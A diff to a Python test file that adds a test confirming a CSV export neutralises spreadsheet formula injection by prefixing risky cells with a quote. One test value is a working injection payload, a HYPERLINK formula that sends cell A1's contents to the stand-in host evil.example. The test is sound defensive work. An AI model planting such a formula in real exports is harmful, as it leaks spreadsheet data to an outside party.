@@ -4,6 +4,7 @@ export; the jury page over real HTTP."""
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 from collections import Counter
@@ -206,6 +207,22 @@ async def test_the_export_writes_csv_and_json(runtime_at: tuple[Runtime, FakeClo
     rows = json.loads((tmp_path / "json" / "submissions.json").read_text())
     assert {r["title"] for r in rows} == {"Entry 0", "Entry 1"} and rows[0]["status"] == "final"
     assert (tmp_path / "csv" / "submissions.csv").read_text().startswith("submission,team_id,team,status")
+
+
+async def test_the_csv_export_never_hands_a_spreadsheet_a_formula(
+    runtime_at: tuple[Runtime, FakeClock], tmp_path: Path
+) -> None:
+    runtime, _ = runtime_at
+    team_id, members = await new_team(runtime, "Team 1")
+    attack = '=HYPERLINK("https://evil.example/?x="&A1,"Details")'
+    await save(runtime, team_id, entry(members, title=attack, summary="@SUM(1+1)", problem="-2+3"))
+    export.write(await export.tables(runtime), tmp_path, "csv")
+    with (tmp_path / "submissions.csv").open(newline="") as f:
+        row = next(csv.DictReader(f))
+    assert (row["title"], row["summary"], row["problem"]) == ("'" + attack, "'@SUM(1+1)", "'-2+3")
+    assert row["solution"] == "A live map of free beds." and row["version"] == "1"
+    cells = [export.inert(c) for c in ("+1", "\t=1", "\r=1", "a=1", 1, -1, None)]
+    assert cells == ["'+1", "'\t=1", "'\r=1", "a=1", 1, -1, None]  # numbers stay numbers
 
 
 def test_jurors_import_from_the_command_line(
